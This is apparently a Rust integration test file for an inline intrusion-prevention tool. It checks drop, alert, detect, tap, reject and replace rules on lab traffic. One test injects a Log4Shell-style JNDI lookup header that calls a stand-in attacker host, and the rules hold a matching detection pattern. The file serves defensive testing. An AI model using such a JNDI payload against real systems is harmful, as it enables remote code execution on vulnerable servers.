//! What rules do to the traffic in each mode of action.

use std::{
    io::{ErrorKind, Read as _, Write as _},
    net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket},
    time::Duration,
};

use fastpath_lab::{
    CLIENT_IP, Capture, Ended, Host, HttpServer, Lab, LabOptions, Namespace, PORT_IN, PORT_OUT, PacketSocket,
    SERVER_IP, download, pattern_digest, udp_frame, udp_payload, wait_until,
};

use crate::wire::{
    BRIEFLY, SOON, assert_both_ports_received, assert_queues_received, bridge, crosses, end, start, stats,
    stop,
};

const RULES: &str = r#"
drop udp any any -> any 7777 (msg:"LAB forbidden"; content:"FORBIDDEN"; sid:1000001; rev:3;)
alert udp any any -> any 7777 (msg:"LAB odd"; content:"odd|21|"; nocase; sid:1000002; rev:1;)
drop tcp any any -> any any (msg:"LAB attack in a header"; content:"${jndi:"; sid:1000003; rev:1;)
"#;
/// Datagrams of each kind, from a source port each.
const EACH: u16 = 20;

/// Sends forbidden, odd and ordinary datagrams by all queues and waits up to `ordinary_within` for the ordinary
/// ones; the payloads that arrived.
fn send_all_kinds(lab: &Lab, ordinary_within: Duration) -> Vec<String> {
    let capture = Capture::start(&lab.server, "eth0", "udp").unwrap();
    let socket = PacketSocket::open(&lab.client, "eth0").unwrap();
    let mut frames = Vec::new();
    for kind in ["a FORBIDDEN datagram", "an ODD! datagram", "an ordinary datagram"] {
        frames.extend((0..EACH).map(|i| udp_frame(Host::Client, (5000 + i, 7777), kind.as_bytes()).unwrap()));
    }
    for queue in 0..4 {
        lab.steer(Host::Client, queue).unwrap();
        frames.iter().skip(queue as usize).step_by(4).for_each(|frame| socket.send(frame).unwrap());
    }
    let count = |capture: &Capture| capture.frames().iter().filter(|f| is_ordinary(f)).count();
    wait_until(ordinary_within, || count(&capture) >= usize::from(EACH));
    let frames = capture.finish().unwrap();
    frames.iter().filter_map(|f| udp_payload(f)).map(|p| String::from_utf8_lossy(p).into_owned()).collect()
}

fn is_ordinary(frame: &[u8]) -> bool {
    udp_payload(frame).is_some_and(|payload| payload.starts_with(b"an ordinary"))
}

fn arrived(payloads: &[String], word: &str) -> usize {
    payloads.iter().filter(|payload| payload.contains(word)).count()
}

/// The alert events of a rule, each a datagram of the lab, with the action and signature of the rule.
fn alerts(ended: &Ended, sid: u64) -> Vec<&serde_json::Value> {
    let alerts: Vec<_> = ended.events.iter().filter(|e| e["alert"]["signature_id"] == sid).collect();
    for event in &alerts {
        assert_eq!((&event["event_type"], &event["proto"]), (&"alert".into(), &"UDP".into()), "{event}");
        assert_eq!(
            (&event["src_ip"], &event["dest_ip"]),
            (&"10.77.0.1".into(), &"10.77.0.2".into()),
            "{event}"
        );
        assert_eq!(event["dest_port"], 7777, "{event}");
        assert!(
            event["src_port"].as_u64().is_some_and(|p| (5000..5000 + u64::from(EACH)).contains(&p)),
            "{event}"
        );
    }
    alerts
}

#[test]
fn a_frame_matched_by_a_drop_rule_never_arrives() {
    let lab = Lab::new().unwrap();
    let fastpath = start(&lab, &bridge(&lab).rules(RULES));
    let payloads = send_all_kinds(&lab, SOON);
    let each = usize::from(EACH);
    assert_eq!(arrived(&payloads, "ordinary"), each);
    assert_eq!(arrived(&payloads, "ODD!"), each);
    assert_eq!(arrived(&payloads, "FORBIDDEN"), 0);
    let ended = stop(&lab, fastpath);
    let stats = stats(&ended);
    assert_queues_received(stats, PORT_IN, 0..4);
    assert_eq!((stats.drops("rule"), stats.totals.dropped), (EACH.into(), EACH.into()));
    assert_eq!(stats.totals.alerts, 2 * u64::from(EACH));
    let (dropped, odd) = (alerts(&ended, 1_000_001), alerts(&ended, 1_000_002));
    assert_eq!((dropped.len(), odd.len()), (each, each));
    for event in dropped {
        assert_eq!(event["alert"]["action"], "blocked", "{event}");
        assert_eq!(
            (&event["alert"]["signature"], &event["alert"]["rev"]),
            (&"LAB forbidden".into(), &3.into())
        );
    }
    assert!(odd.iter().all(|event| event["alert"]["action"] == "allowed"), "{odd:?}");
}

#[test]
fn an_attack_over_tcp_is_stopped_and_the_rest_goes_on() {
    let lab = Lab::new().unwrap();
    let http = HttpServer::start(&lab.server, SocketAddr::from((SERVER_IP, 0))).unwrap();
    let fastpath = start(&lab, &bridge(&lab).rules(RULES));
    let get = |header, limit| download(&lab.client, http.address(), 300_000, header, limit);
    assert_eq!(get("User-Agent: lab", SOON).unwrap().digest, pattern_digest(300_000));
    let attack = get("User-Agent: ${jndi:ldap://attacker/x}", Duration::from_millis(700));
    assert!(attack.is_err(), "the attack got an answer: {attack:?}");
    assert_eq!(get("User-Agent: lab", SOON).unwrap().digest, pattern_digest(300_000));
    let ended = stop(&lab, fastpath);
    assert_both_ports_received(stats(&ended));
    // The request and its retransmissions.
    assert!(stats(&ended).drops("rule") >= 1, "{:?}", stats(&ended).totals);
    assert!(ended.alert_sids().contains(&1_000_003), "{:?}", ended.events);
}

#[test]
fn detect_lets_it_through_and_says_what_it_would_have_dropped() {
    let lab = Lab::new().unwrap();
    let fastpath = start(&lab, &bridge(&lab).args(["--action", "detect"]).rules(RULES));
    let payloads = send_all_kinds(&lab, SOON);
    wait_until(SOON, || fastpath.events().len() >= 2 * usize::from(EACH));
    let each = usize::from(EACH);
    for kind in ["FORBIDDEN", "ODD!", "ordinary"] {
        assert_eq!(arrived(&payloads, kind), each, "{kind}");
    }
    let ended = stop(&lab, fastpath);
    let stats = stats(&ended);
    assert_queues_received(stats, PORT_IN, 0..4);
    assert_eq!((stats.totals.dropped, stats.totals.would_drop), (0, EACH.into()));
    let (forbidden, odd) = (alerts(&ended, 1_000_001), alerts(&ended, 1_000_002));
    assert_eq!((forbidden.len(), odd.len()), (each, each));
    for event in forbidden {
        assert_eq!(event["alert"]["action"], "allowed", "{event}");
        assert!(would_drop(event), "not told that it would have been dropped: {event}");
    }
    assert!(!odd.iter().any(|event| would_drop(event)), "{odd:?}");
}

/// Whether an event says that a frame was let through which inline mode would have dropped.
fn would_drop(event: &serde_json::Value) -> bool {
    event["verdict"]["action"] == "would-drop"
}

#[test]
fn tap_inspects_and_sends_nothing() {
    let lab = Lab::new().unwrap();
    let fastpath = start(&lab, &bridge(&lab).args(["--action", "tap"]).rules(RULES));
    let payloads = send_all_kinds(&lab, BRIEFLY);
    assert_eq!(payloads, Vec::<String>::new());
    assert!(!crosses(&lab, BRIEFLY));
    let ended = end(&lab, fastpath, fastpath_lab::Signal::SIGTERM);
    let stats = stats(&ended);
    assert_queues_received(stats, PORT_IN, 0..4);
    assert_eq!((stats.totals.tx_packets, stats.totals.dropped), (0, 0));
    assert_eq!(stats.totals.tapped, stats.totals.rx_packets);
    assert_eq!(lab.received(&lab.server, "eth0").unwrap(), 0, "the server's port received something");
    assert_eq!(alerts(&ended, 1_000_001).len(), usize::from(EACH));
    assert_eq!(stats.queues.iter().filter(|q| q.port == PORT_OUT).map(|q| q.tx_packets).sum::<u64>(), 0);
}

#[test]
fn both_ends_of_what_is_rejected_are_told() {
    const RULES: &str = "rejectboth tcp any any -> any any (content:\"FORBIDDEN\"; sid:1;)
reject udp any any -> any any (content:\"FORBIDDEN\"; sid:2;)\n";
    let lab = Lab::new().unwrap();
    let listener = lab.server.enter(|| TcpListener::bind((SERVER_IP, 0))).unwrap().unwrap();
    let address = listener.local_addr().unwrap();
    let fastpath = start(&lab, &bridge(&lab).rules(RULES));
    let connect = || TcpStream::connect_timeout(&address, SOON);
    let mut client = lab.client.enter(connect).unwrap().unwrap();
    let (mut server, _) = listener.accept().unwrap();
    client.write_all(b"a FORBIDDEN word").unwrap();
    for end in [&mut client, &mut server] {
        end.set_read_timeout(Some(SOON)).unwrap();
        let error = end.read(&mut [0; 64]).expect_err("nothing was sent that may arrive");
        assert_eq!(error.kind(), ErrorKind::ConnectionReset, "{error}");
    }
    let udp = lab.client.enter(|| UdpSocket::bind("0.0.0.0:0")).unwrap().unwrap();
    udp.connect(address).unwrap();
    udp.set_read_timeout(Some(SOON)).unwrap();
    udp.send(b"a FORBIDDEN word").unwrap();
    let error = udp.recv(&mut [0; 64]).expect_err("nobody answers");
    // Communication administratively prohibited (icmp(7)).
    assert_eq!(error.kind(), ErrorKind::HostUnreachable, "{error}");
    let ended = stop(&lab, fastpath);
    assert_eq!(stats(&ended).drops("rule"), 2, "{:?}", stats(&ended).totals);
    let mut sids: Vec<_> = ended.alert_sids();
    sids.sort_unstable();
    assert_eq!(sids, [1, 2]);
}

/// By all queues and workers, in packets of one frame and of several. The receivers are sockets, so that the kernel has found the
/// checksums right.
#[test]
fn receivers_get_what_a_rule_puts_in_place() {
    const RULES: &str = "alert ip any any -> any any (content:\"evil\"; replace:\"good\"; sid:1;)\n";
    const FLOWS: usize = 40;
    let lab = Lab::with(LabOptions { mtu: 9000, ..LabOptions::default() }).unwrap();
    let bind =
        |host: &Namespace, ip: Ipv4Addr| host.enter(move || UdpSocket::bind((ip, 0))).unwrap().unwrap();
    let datagrams = bind(&lab.server, SERVER_IP);
    datagrams.set_read_timeout(Some(SOON)).unwrap();
    let listener = lab.server.enter(|| TcpListener::bind((SERVER_IP, 0))).unwrap().unwrap();
    let (to, tcp) = (datagrams.local_addr().unwrap(), listener.local_addr().unwrap());
    let fastpath = start(&lab, &bridge(&lab).rules(RULES));
    for flow in 0..FLOWS {
        lab.steer(Host::Client, u32::try_from(flow % 4).unwrap()).unwrap();
        let filler = "j".repeat([0, 8900][flow / 4 % 2]);
        bind(&lab.client, CLIENT_IP).send_to(format!("{filler} an evil word").as_bytes(), to).unwrap();
        let mut buffer = vec![0; 10_000];
        let length = datagrams.recv(&mut buffer).unwrap();
        assert_eq!(buffer[..length], *format!("{filler} an good word").as_bytes(), "flow {flow}");
    }
    let mut client = lab.client.enter(move || TcpStream::connect(tcp)).unwrap().unwrap();
    let (mut server, _) = listener.accept().unwrap();
    server.set_read_timeout(Some(SOON)).unwrap();
    let filler = "j".repeat(8000);
    for word in ["an evil word", &format!("{filler} evil, evil")] {
        client.write_all(word.as_bytes()).unwrap();
        let mut buffer = vec![0; word.len()];
        server.read_exact(&mut buffer).unwrap();
        assert_eq!(String::from_utf8(buffer).unwrap(), word.replace("evil", "good"));
    }
    drop((client, server));
    let ended = stop(&lab, fastpath);
    let stats = stats(&ended);
    assert!(stats.totals.handed_over > 0, "no packet was inspected by another worker");
    let alerts = ended.alert_sids().len();
    assert!(alerts >= FLOWS + 2, "{alerts} alerts");
    assert_eq!(stats.totals.dropped, 0);
}
